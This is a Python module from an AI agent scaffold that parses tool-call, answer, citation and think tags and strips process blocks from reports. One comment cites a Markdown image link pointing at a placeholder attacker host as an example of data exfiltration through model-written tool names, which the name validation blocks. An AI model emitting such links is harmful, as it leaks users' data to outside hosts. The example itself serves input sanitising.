"""Reading the scaffold's tags: tool calls, answers, citations (METHOD §3, §4.1, D1).

Parsing here only *reads* text (which tool, which query, which cites). Which tokens belong to which stage is decided
when turns are recorded, never by re-parsing (STYLE §3).
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

# Main-text tag names accepted as aliases of the canonical appendix names (METHOD D1).
TAG_ALIASES = {"analysis": "deep_analysis", "rubrics": "rubric", "rubrics_review": "rubric_review", "call": "call_tool"}

_ATTR = re.compile(r'(\w+)\s*=\s*"([^"]*)"')  # DR Tulu's attribute regex, whitespace-tolerant
_CALL_OPEN = re.compile(r"<(call_tool|call)\b([^>]*)>", re.IGNORECASE)
# A cite may carry other attributes; an unclosed one (cut by a length limit) runs to the next cite or the end.
_CITE = re.compile(
    r"<cite\b[^>]*?\bid\s*=\s*[\"']?([^\"'>]*)[\"']?[^>]*>(.*?)(?:</cite>|(?=<cite\b)|$)", re.IGNORECASE | re.DOTALL
)
# A tool name the scaffold accepts: letters, digits, `_ . -` and inner spaces (aliases such as "Google Search"
# normalise to canonical names), at most 64 characters. Anything else is refused before it is echoed anywhere: a
# name is model-written text, and one like `![](https://attacker/?q=...)` would otherwise reach the UI's Markdown.
TOOL_NAME = re.compile(r"[A-Za-z0-9_.-](?:[A-Za-z0-9_. -]{0,62}[A-Za-z0-9_.-])?")
_THINK = re.compile(r"<think>.*?(</think>|$)", re.IGNORECASE | re.DOTALL)
SCAFFOLD_TAGS = (
    "think", "structured_plan", "deep_analysis", "analysis", "rubric", "rubrics", "research_plan", "call_tool", "call",
    "tool_output", "snippet", "webpage", "state_evaluation", "review", "rubric_review", "rubrics_review",
    "writing_plan", "answer", "cite", "reference_examples",
)
_TAG_NAMES = "|".join(sorted(SCAFFOLD_TAGS, key=len, reverse=True))
_TAG = re.compile(rf"</?(?:{_TAG_NAMES})\b[^<>]*>", re.IGNORECASE)
# A scaffold tag that was never closed (`<call_tool name=x` ...) up to the line end, or any tag fragment a length
# limit cut at the very end of the text (`</s`, or a bare `</`).
_TAG_FRAGMENT = re.compile(rf"</?(?:{_TAG_NAMES})\b[^<>\n]*|</?[A-Za-z_][\w:-]*$|</?$", re.IGNORECASE)
# Whole blocks that belong to earlier stages and must never reach the report.
_PROCESS_BLOCK = re.compile(
    r"<(state_evaluation|structured_plan|review|rubric_review|rubrics_review|writing_plan|tool_output|call_tool|"
    r"research_plan|deep_analysis|rubrics?)\b[^>]*>.*?(</\1>|$)",
    re.IGNORECASE | re.DOTALL,
)
_ANSWER = re.compile(r"<answer>(.*?)(</answer>|$)", re.IGNORECASE | re.DOTALL)
_BOXED = re.compile(r"\\boxed\{([^{}]*)\}")


def canonical_tag(name: str) -> str:
    """Map a tag name (any case, main-text alias or canonical) to its canonical name."""
    low = name.lower()
    return TAG_ALIASES.get(low, low)


@dataclass(frozen=True, slots=True)
class ParsedCall:
    """A tool call read from `<call_tool name="..." attr="...">argument</call_tool>`."""

    name: str
    query: str
    attrs: dict[str, str] = field(default_factory=dict)


class CallParseError(ValueError):
    """The text that ended with a tool-call stop holds no readable call."""


def parse_tool_call(text: str) -> ParsedCall:
    """Read the LAST tool call opened in `text` (the closing tag may be absent: servers drop stop strings).

    Raises:
        CallParseError: no `<call_tool ...>` opening, no `name` attribute, or a name that is no tool name (the
            message never quotes it: it is model-written and may carry Markdown or HTML).
    """
    opens = list(_CALL_OPEN.finditer(text))
    if not opens:
        raise CallParseError("no <call_tool name=\"...\"> opening tag found before </call_tool>")
    last = opens[-1]
    attrs = {k.lower(): v.strip() for k, v in _ATTR.findall(last.group(2))}
    name = attrs.pop("name", "").strip()
    if not name:
        raise CallParseError('the <call_tool> tag has no name="..." attribute')
    if not TOOL_NAME.fullmatch(name):
        raise CallParseError("the tool name is not one of the listed tools (a tool name has only letters, digits, "
                             '_ . - and at most 64 characters): write <call_tool name="TOOL"> with a listed name')
    body = text[last.end():]
    body = re.split(r"</call_tool>|</call>", body, maxsplit=1, flags=re.IGNORECASE)[0]
    return ParsedCall(name=name, query=body.strip(), attrs=attrs)


@dataclass(frozen=True, slots=True)
class Citation:
    """One `<cite>` occurrence: the ids it names and the claim it wraps."""

    ids: tuple[str, ...]
    claim: str


def split_ids(raw: str) -> tuple[str, ...]:
    """`"a-0, b-1"` -> `("a-0", "b-1")`; empty parts dropped."""
    return tuple(p.strip() for p in re.split(r"[,\s]+", raw) if p.strip())


def extract_answer(text: str) -> str:
    """The body of the last `<answer>` block (an unclosed block runs to the end); "" if there is none."""
    matches = list(_ANSWER.finditer(text))
    return matches[-1].group(1) if matches else ""


def find_citations(answer: str) -> list[Citation]:
    """All `<cite id=...>claim</cite>` in order."""
    return [Citation(split_ids(m.group(1)), m.group(2).strip()) for m in _CITE.finditer(answer)]


def strip_think(text: str) -> str:
    """Remove `<think>...</think>` blocks (and an unclosed trailing one)."""
    return _THINK.sub("", text)


def strip_tags(text: str) -> str:
    """Remove scaffold tags and tag fragments, keeping the text between them (other `<...>` text is left alone)."""
    return _TAG_FRAGMENT.sub("", _TAG.sub("", text))


def strip_process_blocks(text: str) -> str:
    """Remove whole planning/review/tool blocks (and unclosed ones to the end) that leaked into an answer."""
    return _PROCESS_BLOCK.sub("", text)


def boxed(text: str) -> str | None:
    r"""The content of the last `\boxed{...}` (exact-answer format), if any."""
    found = _BOXED.findall(text)
    return found[-1].strip() if found else None


def replace_citations(answer: str, number_of: dict[str, int]) -> tuple[str, int, list[str]]:
    """Turn `<cite id=...>claim</cite>` into `claim [n]` markers.

    Args:
        answer: the answer body.
        number_of: known snippet id -> reference number (ids absent from it are unknown).

    Returns:
        (text, number of unknown ids removed, known ids in order of first use)
    """
    unknown = 0
    used: list[str] = []

    def sub(m: re.Match[str]) -> str:
        nonlocal unknown
        claim = m.group(2).strip()
        marks = []
        for cid in split_ids(m.group(1)):
            if cid in number_of:
                if cid not in used:
                    used.append(cid)
                marks.append(f"[{number_of[cid]}]")
            else:
                unknown += 1
        return claim + (" " + "".join(dict.fromkeys(marks)) if marks else "")

    return _CITE.sub(sub, answer), unknown, used
